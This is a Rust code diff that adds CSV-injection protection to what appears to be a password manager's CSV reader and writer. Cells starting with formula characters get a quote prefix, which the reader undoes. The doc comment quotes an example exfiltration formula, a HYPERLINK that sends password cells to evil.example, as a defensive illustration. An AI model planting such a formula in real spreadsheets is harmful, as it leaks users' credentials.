@@ -1,5 +1,24 @@
 //! CSV files whose first line names the columns: the shared reading and writing of the three CSV
 //! formats.
+//!
+//! # Spreadsheet formulas
+//!
+//! Names, usernames, URLs and even passwords can come from web pages (a page stores a credential
+//! with `navigator.credentials.store()`), and a spreadsheet that opens a CSV file runs every cell
+//! that starts like a formula: `=HYPERLINK("https://evil.example/?"&D2&D3, "Click")` would send
+//! other cells (passwords) away. As [OWASP's CSV injection guidance][owasp] recommends, the
+//! writer puts a `'` before every cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
+//! return, which spreadsheets show as text, and quotes every cell (so a `;` or `,` never starts a
+//! cell in a spreadsheet that splits on it).
+//!
+//! So that the reader can undo exactly that, the `'` also goes before a cell that starts with one
+//! or more `'` and then such a character (`'=x` is written `''=x`), and the reader removes one `'`
+//! from exactly those cells: a cell that, after its leading `'`s, starts like a formula. Every
+//! value round-trips, whatever it starts with. The price: a value in another tool's file that
+//! starts with `'` and then one of those characters loses its first `'` (the import warns with
+//! the lines).
+//!
+//! [owasp]: https://owasp.org/www-community/attacks/CSV_Injection
 
 use std::io::{Read, Write};
 
@@ -25,9 +44,15 @@ pub(super) struct Row<'a> {
 }
 
 impl Row<'_> {
-    /// The field of wanted column `column` (an index into the `wanted` list given to
-    /// [`read`]), `""` when the file has no such column.
+    /// The value of wanted column `column` (an index into the `wanted` list given to
+    /// [`read`]), `""` when the file has no such column; without the `'` the writer puts before
+    /// formula-like values.
     pub(super) fn get(&self, column: usize) -> &str {
+        unguard(self.cell(column))
+    }
+
+    /// The field of wanted column `column` as the file has it.
+    fn cell(&self, column: usize) -> &str {
         self.header
             .index
             .get(column)
@@ -36,9 +61,33 @@ impl Row<'_> {
             .and_then(|i| self.record.get(i))
             .unwrap_or("")
     }
+
+    /// Whether [`Row::get`] removes a `'` from any of the row's values.
+    fn had_guards(&self) -> bool {
+        (0..self.header.index.len()).any(|c| unguard(self.cell(c)).len() != self.cell(c).len())
+    }
 }
 
-/// Reads a CSV file whose header names the columns, calling `each` on every data row.
+/// The characters a spreadsheet reads as the start of a formula (OWASP's list).
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// Whether the writer guards `value`: it starts like a formula once its leading `'`s are
+/// taken off.
+pub(super) fn needs_guard(value: &str) -> bool {
+    value.trim_start_matches('\'').starts_with(FORMULA_STARTS)
+}
+
+/// The value of a cell: the inverse of what [`write()`] does. A guarded cell starts with `'` and
+/// needs a guard itself; no value the writer leaves alone is both.
+fn unguard(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(value) if needs_guard(cell) => value,
+        _ => cell,
+    }
+}
+
+/// Reads a CSV file whose header names the columns, calling `each` on every data row; returns
+/// the lines of the rows from which a formula guard (`'`) was removed.
 ///
 /// `wanted` lists the column names the format knows (matched without regard to case or
 /// surrounding spaces); the first `required` of them must be in the header. Every row must have
@@ -48,7 +97,7 @@ pub(super) fn read(
     wanted: &[&str],
     required: usize,
     mut each: impl FnMut(&Row<'_>) -> Result<(), FormatError>,
-) -> Result<(), FormatError> {
+) -> Result<Vec<u64>, FormatError> {
     // The whole file is read into a buffer that is wiped afterwards, and line numbers are
     // counted from byte offsets (the csv reader's own line count lags behind on CRLF files).
     let mut bytes = Zeroizing::new(Vec::new());
@@ -96,42 +145,52 @@ pub(super) fn read(
         ));
     }
     let header = Header { index };
+    let mut guarded = Vec::new();
     loop {
         match reader.read_record(&mut record) {
-            Ok(false) => return Ok(()),
+            Ok(false) => return Ok(guarded),
             Ok(true) => {
                 let line = record.position().map_or(0, |p| lines.of(p.byte()));
                 // A blank line is not a row (the csv reader already skips empty lines; a lone
                 // field of spaces is still a malformed row, caught by the length check).
-                each(&Row {
+                let row = Row {
                     line,
                     header: &header,
                     record: &record,
-                })?;
+                };
+                if row.had_guards() {
+                    guarded.push(line);
+                }
+                each(&row)?;
             }
             Err(e) => return Err(csv_error(e)),
         }
     }
 }
 
-/// Writes `header` and then each row of `rows`, quoting every field when `quote_all`.
+/// Writes `header` and then each row of `rows`, every field quoted, and every value that
+/// [needs a guard](needs_guard) behind a `'`.
 pub(super) fn write<'a>(
     output: impl Write,
     header: &[&str],
-    quote_all: bool,
     rows: impl IntoIterator<Item = Vec<&'a str>>,
 ) -> std::io::Result<()> {
     let mut writer = WriterBuilder::new()
-        .quote_style(if quote_all {
-            csv::QuoteStyle::Always
-        } else {
-            csv::QuoteStyle::Necessary
-        })
+        .quote_style(csv::QuoteStyle::Always)
         .terminator(Terminator::Any(b'\n'))
         .from_writer(output);
     writer.write_record(header)?;
     for row in rows {
-        writer.write_record(&row)?;
+        for value in row {
+            if needs_guard(value) {
+                // The value may be a password: its copy is wiped.
+                let guarded = Zeroizing::new(format!("'{value}"));
+                writer.write_field(guarded.as_bytes())?;
+            } else {
+                writer.write_field(value)?;
+            }
+        }
+        writer.write_record(None::<&[u8]>)?;
     }
     writer.flush()
 }
